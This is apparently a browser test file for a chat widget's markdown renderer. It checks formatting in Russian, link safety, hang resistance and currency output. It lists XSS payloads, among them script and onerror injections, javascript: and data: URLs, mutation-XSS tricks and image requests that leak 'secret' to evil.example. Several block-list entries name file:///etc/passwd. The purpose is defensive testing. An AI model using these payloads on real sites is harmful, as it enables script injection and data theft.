"""What a model writes becomes text and a few harmless tags, whatever it writes."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Browser

from tests.widget.standin import StandIn

pytestmark = pytest.mark.browser

RENDER = """async (text) => {
  const { markdown } = await import("/static/widget/core.js");
  const box = document.createElement("div");
  box.append(markdown(text));
  document.body.replaceChildren(box);
  return box.innerHTML;
}"""


@pytest.fixture(scope="module")
def page(browser: Browser) -> Iterator[Any]:
    server = StandIn()
    server.pages["/blank"] = ({}, "<!doctype html><title>x</title><body></body>")
    page = browser.new_page()
    page.dialogs, page.asked = [], []
    page.on("dialog", lambda dialog: (page.dialogs.append(dialog.message), dialog.dismiss()))
    page.goto(f"{server.url}/blank")
    page.on("request", lambda request: page.asked.append(request.url))
    page.render = lambda text: page.evaluate(RENDER, text)
    yield page
    page.close()
    server.end()


@pytest.mark.parametrize(
    ("source", "html"),
    [
        ("просто текст", "<p>просто текст</p>"),
        ("одна\nдве", "<p>одна<br>две</p>"),
        ("одна\n\nдве", "<p>одна</p><p>две</p>"),
        ("**жирно** и *косо*, __так__ и _сяк_", None),
        ("***оба***", "<p><strong><em>оба</em></strong></p>"),
        ("*a **b** c*", "<p><em>a <strong>b</strong> c</em></p>"),
        ("**a *b* c**", "<p><strong>a <em>b</em> c</strong></p>"),
        ("2 * 3 * 4 = 24", "<p>2 * 3 * 4 = 24</p>"),
        ("имя_файла_тут и a**b", "<p>имя_файла_тут и a**b</p>"),
        ("~~было~~ стало", "<p><s>было</s> стало</p>"),
        ("`<b>`", "<p><code>&lt;b&gt;</code></p>"),
        ("\\*не косо\\*", "<p>*не косо*</p>"),
        ("# Заголовок", '<p class="heading"><strong>Заголовок</strong></p>'),
        ("- один\n- два", "<ul><li>один</li><li>два</li></ul>"),
        ("1. один\n2. два", "<ol><li>один</li><li>два</li></ol>"),
        ("3) три", '<ol start="3"><li>три</li></ol>'),
        ("- один\n  - внутри\n- два", "<ul><li>один<ul><li>внутри</li></ul></li><li>два</li></ul>"),
        ("Список:\n- один\nхвост", "<p>Список:</p><ul><li>один<br>хвост</li></ul>"),
        ("> слова", "<blockquote><p>слова</p></blockquote>"),
        ("---", "<hr>"),
        ("```py\nprint(1)\n```", '<pre tabindex="0"><code>print(1)</code></pre>'),
        ("```\nне закрыт", '<pre tabindex="0"><code>не закрыт</code></pre>'),
        ("", ""),
    ],
)
def test_the_usual_marks(page: Any, source: str, html: str | None) -> None:
    expected = (
        html
        if html is not None
        else ("<p><strong>жирно</strong> и <em>косо</em>, <strong>так</strong> и <em>сяк</em></p>")
    )
    assert page.render(source) == expected


def test_a_price_table_is_a_table(page: Any) -> None:
    html = page.render("| Тариф | Цена |\n|---|--:|\n| **Старт** | 14 900 ₽ |\n| Про \\| плюс |")

    assert html == (
        '<div class="wide" role="region" tabindex="0" aria-label=""><table>'
        '<thead><tr><th scope="col">Тариф</th><th scope="col">Цена</th></tr></thead>'
        "<tbody><tr><td><strong>Старт</strong></td><td>14 900 ₽</td></tr>"
        "<tr><td>Про | плюс</td><td></td></tr></tbody></table></div>"
    )


@pytest.mark.parametrize(
    ("source", "address", "shown"),
    [
        ("[сайт](http://127.0.0.1/a)", "http://127.0.0.1/a", "сайт (127.0.0.1)"),
        ("[сюда](https://evil.example/a?b=c)", "https://evil.example/a?b=c", "сюда (evil.example)"),
        ("[bank.ru](https://evil.example)", "https://evil.example/", "bank.ru (evil.example)"),
        ("https://example.com/a.", "https://example.com/a", "https://example.com/a."),
        ("(https://example.com)", "https://example.com/", "(https://example.com)"),
        ("[почта](mailto:a@example.com)", "mailto:a@example.com", "почта"),
        ("[звонок](tel:+74950000000)", "tel:+74950000000", "звонок"),
        ("[сюда](https://пример.рф/)", "https://xn--e1afmkfd.xn--p1ai/", "сюда (xn--e1afmkfd.xn--p1ai)"),
    ],
)
def test_links_lead_where_they_say(page: Any, source: str, address: str, shown: str) -> None:
    page.render(source)

    link = page.locator("a")
    assert link.get_attribute("href") == address
    assert page.locator("p").inner_text() == shown
    if address.startswith("http"):
        assert (link.get_attribute("target"), link.get_attribute("rel")) == ("_blank", "noopener noreferrer nofollow")


@pytest.mark.parametrize(
    "address",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "\u0001javascript:alert(1)",
        "java\u200bscript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
        "blob:http://127.0.0.1/x",
        "file:///etc/passwd",
        "//evil.example",
        "/admin/",
        "admin",
        "https:evil.example",
        "https://user:pass@evil.example/",
        "https://bank.ru@evil.example/",
        "ftp://evil.example",
        "",
    ],
)
def test_other_addresses_are_no_links(page: Any, address: str) -> None:
    page.render(f"[слово]({address}) и <{address}>")

    assert page.locator("a").count() == 0
    assert "слово" in page.locator("body").inner_text()


ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<body onload=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=a></form>",
    "<template><img src=x onerror=alert(1)></template>",
    "</div></section><script>alert(1)</script>",
    "![x](https://evil.example/a.png?d=secret)",
    "![x](javascript:alert(1))",
    "[![x](https://evil.example/a.png)](https://evil.example/b)",
    "![x][1]\n\n[1]: https://evil.example/a.png?d=secret",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x](<javascript:alert(1)>)",
    '[x](https://e.example "onmouseover=alert(1)")',
    '[x](https://e.example/"onmouseover="alert(1))',
    "[x](https://e.example/'><img src=x onerror=alert(1)>)",
    "**<img src=x onerror=alert(1)>**",
    "`</code><script>alert(1)</script>`",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    "# <img src=x onerror=alert(1)>",
    "> <img src=x onerror=alert(1)>",
    "- <img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "{{7*7}} ${alert(1)} #{alert(1)} <%= 7*7 %>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "\u2028<script>alert(1)</script>",
    "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
    "\u202e<script>alert(1)</script>",
]
ALLOWED = {
    *("P", "BR", "HR", "STRONG", "EM", "S", "CODE", "PRE", "A", "UL", "OL", "LI", "BLOCKQUOTE"),
    *("DIV", "TABLE", "THEAD", "TBODY", "TR", "TH", "TD"),
}


def test_attacks_stay_text(page: Any) -> None:
    page.asked.clear()

    for attack in ATTACKS:
        page.render(attack)
        every = "[...document.body.firstChild.querySelectorAll('*')]"
        tags = set(page.evaluate(f"() => {every}.map((node) => node.tagName)"))
        names = page.evaluate(f"() => {every}.flatMap((node) => node.getAttributeNames())")
        links = page.evaluate("() => [...document.querySelectorAll('a')].map((link) => link.href)")

        assert tags <= ALLOWED, attack
        assert not [name for name in names if name.startswith("on") or name in {"style", "src", "srcdoc"}], attack
        assert all(link.startswith(("https://", "http://", "mailto:", "tel:")) for link in links), attack
    page.wait_for_timeout(200)
    assert page.dialogs == []
    assert [url for url in page.asked if "/static/widget/" not in url] == []


@pytest.mark.proof
def test_a_renderer_that_wrote_html_would_fall_to_the_same_attacks(page: Any) -> None:
    for attack in ATTACKS[:3]:
        page.evaluate("(text) => { document.body.innerHTML = `<div>${text}</div>`; }", attack)
        page.wait_for_timeout(200)

    assert page.dialogs != []
    page.dialogs.clear()


@pytest.mark.parametrize(
    "monster",
    [
        "[" * 20_000,
        "*" * 20_000,
        "*a " * 10_000,
        "**a" * 10_000,
        "_a " * 10_000,
        "[a](" * 8_000,
        "![" * 10_000 + "]" * 10_000,
        "> " * 10_000,
        "`" * 20_000 + "a",
        "`a``b" * 5_000,
        "- a\n" * 5_000,
        "".join("  " * depth + "- a\n" for depth in range(150)),
        "|" * 5_000 + "\n" + "|-" * 5_000,
        "- - - - " * 3_000 + "x",
        "https://" * 3_000,
        "a" * 100_000,
        "а\u0301" * 20_000,
        "👨‍👩‍👧" * 5_000,
    ],
    ids=range(18),
)
def test_no_text_makes_the_page_hang(page: Any, monster: str) -> None:
    took = page.evaluate(
        """async (text) => {
          const { markdown } = await import("/static/widget/core.js");
          const began = performance.now();
          markdown(text);
          return performance.now() - began;
        }""",
        monster,
    )

    assert took < 2000


@pytest.mark.parametrize(
    ("amount", "russian", "english"),
    [
        ("657600.00", "657\u00a0600,00\u00a0₽", "657\u00a0600.00\u00a0₽"),
        ("0.50", "0,50\u00a0₽", "0.50\u00a0₽"),
        ("-1234567.8", "−1\u00a0234\u00a0567,80\u00a0₽", "−1\u00a0234\u00a0567.80\u00a0₽"),
        ("900719925474099301.07", "900\u00a0719\u00a0925\u00a0474\u00a0099\u00a0301,07\u00a0₽", None),
        ("999", "999,00\u00a0₽", None),
        ("договорная", "договорная", None),
    ],
)
def test_amounts_are_written_as_people_write_them(page: Any, amount: str, russian: str, english: str | None) -> None:
    money = "([amount, locale]) => import('/static/widget/core.js').then((core) => core.money(amount, locale))"

    assert page.evaluate(money, [amount, "ru"]) == russian
    if english:
        assert page.evaluate(money, [amount, "en"]) == english
